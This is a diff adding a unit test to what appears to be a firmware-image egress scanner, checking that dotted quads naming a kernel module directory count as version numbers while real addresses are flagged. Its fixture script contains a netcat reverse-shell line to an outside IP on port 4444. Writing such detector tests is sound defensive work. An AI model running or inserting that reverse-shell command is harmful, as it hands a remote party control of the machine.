@@ -150,6 +150,20 @@ def _scan(tmp_path, files=FILES, options: ScanOptions | None = None, sections=No
     return findings, sections
 
 
+def test_dotted_quads_naming_a_directory_are_version_numbers(tmp_path):
+    """A kernel module tree's name is a version wherever it appears; the same quad without such a directory is an
+    address. The verdict is the image's, not the file's: the file's own results are kept by its content and path."""
+    script = "#!/bin/sh\necho 2.6.36.4\nifconfig eth0 2.6.36.4 up\nnc 45.142.212.10 4444 -e /bin/sh\n"
+    files = {"/usr/bin/fw-check": script, "/lib/modules/2.6.36.4/modules.dep": "kernel/x.ko:\n"}
+    _, sections = _scan(tmp_path / "a", files)
+    assert "2.6.36.4" not in _by_value(sections) and "45.142.212.10" in _by_value(sections)
+    version = next(n for n in sections["egress_noise"] if n["rule"] == "version-number")
+    assert version["count"] == 2 and version["examples"] == ["2.6.36.4"]
+    _, sections = _scan(tmp_path / "b", {"/usr/bin/fw-check": script})
+    assert "2.6.36.4" in _by_value(sections)
+    assert {n["rule"]: n["count"] for n in sections["egress_noise"]} == {"interface-address": 1}
+
+
 def _ev(finding) -> str:
     """The endpoint a finding's evidence starts with."""
     return finding.evidence.split(": purpose ", 1)[0]
